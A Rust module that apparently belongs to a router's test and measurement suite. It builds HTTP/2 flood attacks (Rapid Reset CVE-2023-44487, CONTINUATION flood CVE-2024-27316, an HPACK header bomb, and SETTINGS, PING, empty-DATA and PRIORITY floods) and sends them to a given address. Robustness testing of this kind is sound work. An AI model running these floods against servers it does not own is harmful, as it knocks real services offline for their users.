//! The floods that both the tests and the measurement use: each opens its own connections to a router's public
//! port, does its harm for a while, and says nothing of how it went.

use std::net::SocketAddr;

use clap::ValueEnum;

use super::frames::{END, END_HEADERS, Frames, Kind, frame, indexed, literal, remembered, request};

/// A page that needs a key: it is refused with little work, so that a flood of requests is one of frames.
pub const PAGE: &str = "/v1/models";

/// Where calls are made.
pub const CALL: &str = "/v1/chat/completions";

/// A flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
#[value(rename_all = "snake_case")]
pub enum Attack {
    /// Streams opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// Settings, each of which wants an answer that is not read.
    Settings,
    /// Pings likewise.
    Pings,
    /// Pings one by one, each after the answer to the one before.
    AnsweredPings,
    /// A byte that stands for kilobytes of headers, thousands of times.
    HeaderBomb,
    /// Frames of no content.
    EmptyData,
    /// Priorities of streams that are not there.
    Priorities,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 8] = [
        Self::RapidReset,
        Self::Continuation,
        Self::Settings,
        Self::Pings,
        Self::AnsweredPings,
        Self::HeaderBomb,
        Self::EmptyData,
        Self::Priorities,
    ];

    /// The word for it.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid_reset",
            Self::Continuation => "continuation",
            Self::Settings => "settings",
            Self::Pings => "pings",
            Self::AnsweredPings => "answered_pings",
            Self::HeaderBomb => "header_bomb",
            Self::EmptyData => "empty_data",
            Self::Priorities => "priorities",
        }
    }

    /// Opens one connection and floods it with at most `most` pieces, each of a few hundred frames.
    pub async fn run(self, router: SocketAddr, most: usize) -> Frames {
        let mut frames = Frames::connect(router, &[]).await;
        let (first, mut piece) = self.bytes();
        frames.send(&first).await;
        for round in 0..most {
            if self == Self::RapidReset {
                piece = opened_and_reset(round);
            }
            if piece.is_empty() || frames.flood(&piece, 1).await == 0 {
                break;
            }
            if self == Self::AnsweredPings {
                frames.skip().await;
            }
        }
        frames
    }

    /// What is sent once, and what is sent again and again.
    fn bytes(self) -> (Vec<u8>, Vec<u8>) {
        let open = |flags| frame(Kind::Headers, flags, 1, &request("POST", PAGE, &[]));
        match self {
            Self::RapidReset => (Vec::new(), Vec::new()),
            Self::Continuation => {
                let more = literal("x-padding", &"y".repeat(1_000));
                (open(0), frame(Kind::Continuation, 0, 1, &more).repeat(100))
            }
            Self::Settings => {
                let table = [0, 1, 0, 0, 0x10, 0];
                (Vec::new(), frame(Kind::Settings, 0, 0, &table).repeat(300))
            }
            Self::AnsweredPings => (Vec::new(), frame(Kind::Ping, 0, 0, b"are-you?")),
            Self::Pings => (Vec::new(), frame(Kind::Ping, 0, 0, b"are-you?").repeat(300)),
            Self::HeaderBomb => {
                let seed = remembered("x-bomb", &"y".repeat(3_000));
                let block = [request("GET", PAGE, &[]), seed, indexed(62).repeat(12_000)].concat();
                (frame(Kind::Headers, END | END_HEADERS, 1, &block), Vec::new())
            }
            Self::EmptyData => {
                let call = request("POST", CALL, &[("content-length", "100")]);
                let opened = frame(Kind::Headers, END_HEADERS, 1, &call);
                (opened, frame(Kind::Data, 0, 1, b"").repeat(300))
            }
            Self::Priorities => {
                let priority = [0, 0, 0, 0, 16];
                (Vec::new(), frame(Kind::Priority, 0, 999, &priority).repeat(300))
            }
        }
    }
}

/// A hundred streams, each opened and reset.
fn opened_and_reset(round: usize) -> Vec<u8> {
    let block = request("GET", PAGE, &[]);
    let first = u32::try_from(round).expect("few rounds") * 200 + 1;
    let streams = (first..first + 200).step_by(2);
    let both = |stream| {
        let opened = frame(Kind::Headers, END | END_HEADERS, stream, &block);
        [opened, frame(Kind::Reset, 0, stream, &[0, 0, 0, 8])].concat()
    };
    streams.flat_map(both).collect()
}
